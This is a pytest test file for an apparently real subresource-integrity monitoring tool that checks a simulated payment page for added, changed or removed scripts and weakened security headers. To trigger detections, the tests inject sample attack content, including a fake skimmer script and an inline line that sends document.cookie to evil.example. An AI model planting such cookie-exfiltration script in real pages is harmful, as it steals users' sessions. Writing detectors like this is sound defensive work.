"""`check` on a payment page whose scripts live on another origin: each kind of change
produces its rule, and per-request noise (a CSRF token in a JSON data block, a rotating CSP
nonce) produces nothing."""

from __future__ import annotations

import json
import secrets
from pathlib import Path
from typing import Any

import pytest

from sri_guard.sri import digest_bytes, format_entry
from tests.servers import Server

PAY = b"window.pay = function(card){ return fetch('/charge', {method:'POST'}); };\n"
CHAT = b"window.chat = 1;\n"
STYLE = b"body{color:#333}\n"


def sri(body: bytes) -> str:
    return format_entry("sha384", digest_bytes(body, ["sha384"])["sha384"])


class Shop:
    """A checkout page on `server` with scripts on `cdn`, editable per test."""

    def __init__(self, server: Server, cdn: Server) -> None:
        self.server = server
        self.cdn = cdn
        self.scripts = {"/pay.js": PAY, "/chat.js": CHAT}
        self.integrity = {"/pay.js": sri(PAY)}
        self.inline = ["window.dataLayer = [];"]
        self.headers = {
            "Content-Security-Policy": "script-src 'self' {cdn} 'nonce-{nonce}'",
            "Strict-Transport-Security": "max-age=31536000",
            "Integrity-Policy": "blocked-destinations=(script)",
        }
        for path, body in self.scripts.items():
            cdn.route(
                path,
                body,
                content_type="text/javascript",
                headers={"Access-Control-Allow-Origin": "*"},
            )
        cdn.route("/shop.css", STYLE, content_type="text/css")
        server.route("/checkout", handler=self.page)

    def page(self, h: Any) -> None:
        nonce = secrets.token_urlsafe(12)
        tags = []
        for path in self.scripts:
            attrs = (
                f' integrity="{self.integrity[path]}" crossorigin="anonymous"'
                if path in self.integrity
                else ' crossorigin="anonymous"'
            )
            tags.append(f'<script src="{self.cdn.url(path)}"{attrs}></script>')
        inline = "".join(f"<script nonce={nonce}>{s}</script>" for s in self.inline)
        csrf = secrets.token_hex(16)
        html = (
            "<!doctype html><html><head>"
            f'<link rel="stylesheet" href="{self.cdn.url("/shop.css")}">'
            + "".join(tags)
            + inline
            + f'<script type="application/json" id="state">{{"csrf": "{csrf}"}}</script>'
            + "</head><body><form>card</form></body></html>"
        )
        headers = {k: v.format(cdn=self.cdn.origin, nonce=nonce) for k, v in self.headers.items()}
        h.send_raw(200, html.encode(), {"Content-Type": "text/html; charset=utf-8", **headers})

    def set_script(self, path: str, body: bytes | None) -> None:
        if body is None:
            self.scripts.pop(path, None)
            return
        self.scripts[path] = body
        self.cdn.route(
            path, body, content_type="text/javascript", headers={"Access-Control-Allow-Origin": "*"}
        )


@pytest.fixture
def shop(server: Server, cdn: Server, tmp_path: Path, run) -> Shop:  # type: ignore[no-untyped-def]
    s = Shop(server, cdn)
    (tmp_path / "sri-guard.toml").write_text(
        f'[[target]]\nurl = "{server.url("/checkout")}"\nname = "checkout"\n'
        'owner = "payments"\njustification = "card entry"\n'
    )
    pinned = run("pin")
    assert pinned.code == 0, pinned.stdout + pinned.stderr
    return s


def check(run) -> tuple[int, list[dict[str, Any]]]:  # type: ignore[no-untyped-def]
    r = run("check", "-f", "json")
    assert "Traceback" not in r.stderr
    return r.code, json.loads(r.stdout)["findings"]


def ids(findings: list[dict[str, Any]]) -> list[str]:
    return sorted(f["rule"] for f in findings)


def test_unchanged_page_with_fresh_csrf_token_and_nonce_is_clean(
    shop: Shop, run, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    code, findings = check(run)
    # Scan findings, reported on every run: the stylesheet has no integrity, and chat.js has
    # none either, which the page's Integrity-Policy turns into a refusal.
    assert ids(findings) == ["integrity-missing", "integrity-missing"], findings
    assert sorted(f["severity"] for f in findings) == ["high", "medium"]
    baseline = json.loads(next((tmp_path / "baselines").glob("*.json")).read_text())
    assert baseline["kind"] == "page"
    assert len(baseline["resources"]) == 3
    assert "'nonce-*'" in baseline["headers"]["content-security-policy"]
    assert baseline["page"]["owner"] == "payments"
    assert code == 1  # integrity-missing is medium, the default --fail-on


def without_scan(findings: list[dict[str, Any]]) -> list[str]:
    return ids([f for f in findings if f["rule"] != "integrity-missing"])


def test_added_script(shop: Shop, run) -> None:  # type: ignore[no-untyped-def]
    shop.set_script("/skimmer.js", b"steal()")
    shop.integrity["/skimmer.js"] = sri(b"steal()")
    code, findings = check(run)
    assert code == 1
    assert without_scan(findings) == ["resource-added"]
    [added] = [f for f in findings if f["rule"] == "resource-added"]
    assert added["url"].endswith("/skimmer.js") and added["actual"] == sri(b"steal()")


def test_removed_script(shop: Shop, run) -> None:  # type: ignore[no-untyped-def]
    shop.set_script("/chat.js", None)
    _, findings = check(run)
    assert without_scan(findings) == ["resource-removed"]


def test_changed_script_content(shop: Shop, run) -> None:  # type: ignore[no-untyped-def]
    shop.set_script("/chat.js", CHAT + b"exfiltrate();\n")
    code, findings = check(run)
    assert code == 1
    assert without_scan(findings) == ["content-changed"]
    [changed] = [f for f in findings if f["rule"] == "content-changed"]
    assert "exfiltrate" in changed["detail"]


def test_changed_content_under_integrity_is_also_a_mismatch(shop: Shop, run) -> None:  # type: ignore[no-untyped-def]
    shop.set_script("/pay.js", PAY + b"skim();\n")
    _, findings = check(run)
    assert without_scan(findings) == ["content-changed", "integrity-mismatch"]


def test_changed_integrity_attribute(shop: Shop, run) -> None:  # type: ignore[no-untyped-def]
    shop.integrity["/pay.js"] = (
        sri(PAY) + " " + format_entry("sha512", digest_bytes(PAY, ["sha512"])["sha512"])
    )
    _, findings = check(run)
    assert without_scan(findings) == ["integrity-changed"]


def test_inline_script_added_changed_removed(shop: Shop, run) -> None:  # type: ignore[no-untyped-def]
    shop.inline.append("new Image().src='https://evil.example/?'+document.cookie;")
    _, findings = check(run)
    assert without_scan(findings) == ["inline-changed"]
    [f] = [f for f in findings if f["rule"] == "inline-changed"]
    assert "evil.example" in f["detail"]
    shop.inline = []
    _, findings = check(run)
    assert without_scan(findings) == ["inline-changed"]


@pytest.mark.parametrize(
    ("header", "value"),
    [
        ("Content-Security-Policy", "script-src * 'unsafe-inline'"),
        ("Strict-Transport-Security", None),
        ("Integrity-Policy", "blocked-destinations=(style)"),
    ],
)
def test_security_header_changes(shop: Shop, run, header: str, value: str | None) -> None:  # type: ignore[no-untyped-def]
    if value is None:
        del shop.headers[header]
    else:
        shop.headers[header] = value
    _, findings = check(run)
    changed = [f for f in findings if f["rule"] == "header-changed"]
    assert len(changed) == 1
    assert header.lower() in changed[0]["message"]


def test_allowed_host_changes_are_info(shop: Shop, run, tmp_path: Path, cdn: Server) -> None:  # type: ignore[no-untyped-def]
    config = tmp_path / "sri-guard.toml"
    config.write_text(
        config.read_text()
        + '[[target.resource]]\nurl = "'
        + cdn.url("/chat.js")
        + '"\npolicy = "allow-change"\n'
    )
    shop.set_script("/chat.js", CHAT + b"v2();\n")
    _, findings = check(run)
    [changed] = [f for f in findings if f["rule"] == "content-changed"]
    assert changed["severity"] == "info"
